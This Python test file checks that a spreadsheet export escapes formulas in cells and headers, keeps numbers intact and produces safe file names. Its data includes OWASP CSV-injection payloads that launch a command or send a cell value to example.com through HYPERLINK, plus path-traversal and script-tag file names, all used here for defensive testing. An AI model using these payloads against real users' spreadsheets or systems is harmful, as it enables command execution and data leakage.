"""Export: no cell of a spreadsheet may run, numbers stay numbers, and file names stay file names."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.datasets.catalogue import load_table
from core.datasets.export import neutralise, safe_file_name, to_csv

# The payloads of OWASP's page on CSV injection and of its testing guide.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"Error")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001  # full-width, read as = in East Asian locales
]


def is_number(text):
    """Tell whether a text is a plain number, which a spreadsheet shows as itself."""
    try:
        return np.isfinite(float(text.replace(",", ".")))
    except ValueError:
        return False


def read_cells(content):
    """Read CSV as a spreadsheet does: rows end at any line break outside quotes."""
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_made_text_in_cells_and_headers(payload):
    cells = read_cells(to_csv(pd.DataFrame({payload: [payload, "plain"]})))
    assert cells == [[f"'{payload}"], [f"'{payload}"], ["plain"]]


def test_a_formula_after_a_lone_carriage_return_cannot_start_a_row():
    cells = read_cells(to_csv(pd.DataFrame({"a": ["x\r=1+1"], "b": ["y,=1+1"]})))
    assert cells == [["a", "b"], ["x\r=1+1", "y,=1+1"]]


def test_numbers_stay_numbers():
    frame = pd.DataFrame({
        "change": [-0.5, 2.0],
        "count": pd.array([-3, pd.NA], dtype="Int64"),
        "day": pd.to_datetime(["2026-01-02", None]),
        "label": ["-1", "+1"],
    })  # fmt: skip
    content = to_csv(frame)
    assert content == b"change,count,day,label\r\n-0.5,-3,2026-01-02,-1\r\n2.0,,,+1\r\n"
    assert pd.read_csv(io.BytesIO(content))["change"].tolist() == [-0.5, 2.0]


def test_a_bundled_table_comes_back_as_it_was():
    frame = load_table("iris").frame
    pd.testing.assert_frame_equal(pd.read_csv(io.BytesIO(to_csv(frame))), frame)


def test_names_that_are_no_texts_and_names_twice_are_written():
    assert to_csv(pd.DataFrame([[1, "=x"]], columns=[0, 0])) == b"0,0\r\n1,'=x\r\n"


def test_what_utf8_cannot_hold_is_replaced():
    assert to_csv(pd.DataFrame({"a": ["\ud800é"]})) == "a\r\n?é\r\n".encode()


def test_the_frame_is_left_as_it_was():
    frame = pd.DataFrame({"=a": ["=1", np.nan]})
    before = frame.copy()
    to_csv(frame)
    pd.testing.assert_frame_equal(frame, before)


@settings(deadline=None, max_examples=100)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=1, max_size=5))
def test_no_cell_ever_starts_like_a_formula_and_every_text_survives(texts):
    cells = read_cells(to_csv(pd.DataFrame({"text": texts, "n": range(len(texts))})))
    assert len(cells) == len(texts) + 1
    for text, (cell, _) in zip(texts, cells[1:], strict=True):
        assert cell == neutralise(text)
        assert cell in {text, f"'{text}"}
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"} or is_number(cell)


@pytest.mark.parametrize(
    ("name", "suffix", "wanted"),
    [
        ("sales.csv", "", "sales.csv"),
        ("sales 2026.xlsx", ".csv", "sales 2026.csv"),
        ("../../etc/passwd", ".csv", "passwd.csv"),
        ("..\\..\\windows\\system.ini", "", "system.ini"),
        ("a\x00b\nc.csv", "", "a b c.csv"),
        ("<script>alert(1)</script>.csv", "", "script.csv"),
        ("con.csv", "", "_con.csv"),
        ("LPT1", ".pdf", "_LPT1.pdf"),
        (".hidden", ".csv", "hidden.csv"),
        ("Größe – 数据.csv", "", "Größe 数据.csv"),
        ("report v1.2 final", ".csv", "report v1.2 final.csv"),
        ("", ".csv", "table.csv"),
        ("...", "", "table"),
    ],
)
def test_file_names_are_safe(name, suffix, wanted):
    assert safe_file_name(name, suffix) == wanted


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=300), st.sampled_from(["", ".csv", ".pdf"]))
def test_any_text_makes_a_safe_file_name(name, suffix):
    made = safe_file_name(name, suffix)
    assert 0 < len(made) <= 80
    assert not set(made) & set('/\\:*?"<>|\0\n\r\t')
    assert made[0] not in ".- "
    assert made.endswith(suffix)
    assert safe_file_name(made, suffix) == made
